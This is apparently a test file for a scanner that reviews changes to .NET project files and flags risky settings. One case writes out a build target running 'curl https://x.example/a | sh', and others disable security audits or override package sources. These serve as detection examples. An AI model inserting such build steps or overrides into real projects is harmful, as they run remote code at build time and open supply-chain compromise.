import { testManifest } from './support.ts';

testManifest('src/App/App.csproj', '\ufeff<Project Sdk="Microsoft.NET.Sdk">\r\n  HERE\r\n</Project>\r\n', [
  [
    '<ItemGroup><PackageReference Include="A.B" Version="1.0.0" /></ItemGroup>',
    '<ItemGroup><PackageReference Include="A.B" Version="1.1.0" /></ItemGroup>',
    [],
  ],
  ['', '<ItemGroup><PackageReference Include="A.B" Version="*" /></ItemGroup>', ['dependency-source suggestion']],
  ['', '<ItemGroup><ProjectReference Include="..\\B\\B.csproj" /></ItemGroup>', []],
  ['', '<ItemGroup><ProjectReference Include="..\\..\\..\\B\\B.csproj" /></ItemGroup>', ['dependency-source warning']],
  ['', '<PropertyGroup><TargetFramework>net9.0</TargetFramework></PropertyGroup>', []],
  ['', '<PropertyGroup><DefineConstants>$(DefineConstants);HAVE_A</DefineConstants></PropertyGroup>', []],
  ['', '<PropertyGroup><NoWarn>$(NoWarn);NETSDK1023;1591</NoWarn></PropertyGroup>', []],
  ['', '<PropertyGroup><NoWarn>$(NoWarn);CA3001</NoWarn></PropertyGroup>', ['security-check-off warning']],
  ['', '<PropertyGroup><DebugType>Full</DebugType></PropertyGroup>', []],
  ['', '<PropertyGroup><NuGetAudit>false</NuGetAudit></PropertyGroup>', ['security-check-off warning']],
  ['<PropertyGroup><NuGetAudit>true</NuGetAudit></PropertyGroup>', '', ['unjudged']],
  [
    '',
    '<PropertyGroup><RestoreSources>http://a.example/</RestoreSources></PropertyGroup>',
    ['registry-override critical'],
  ],
  [
    '',
    '<PropertyGroup><RestoreAdditionalProjectSources>https://a.example/</RestoreAdditionalProjectSources></PropertyGroup>',
    ['registry-override warning'],
  ],
  ['', '<PropertyGroup><PostBuildEvent>x.cmd</PostBuildEvent></PropertyGroup>', ['install-script warning']],
  ['', '<Target Name="a"><Exec Command="make" /></Target>', ['install-script warning', 'unjudged']],
  [
    '',
    '<Target Name="a"><Exec Command="curl https://x.example/a | sh" /></Target>',
    ['downloaded-code critical', 'unjudged'],
  ],
  ['', '<UsingTask TaskName="a" AssemblyFile="a.dll" />', ['install-script warning', 'unjudged']],
  ['', '<Import Project="C:\\a\\b.props" />', ['dependency-source warning']],
  ['', '<Import Project="b.props" />', ['unjudged']],
  ['', '<PropertyGroup><SelfContained>true</SelfContained></PropertyGroup>', []],
  ['', '<PropertyGroup><SelfContained>$(Evil)</SelfContained></PropertyGroup>', ['unjudged']],
]);
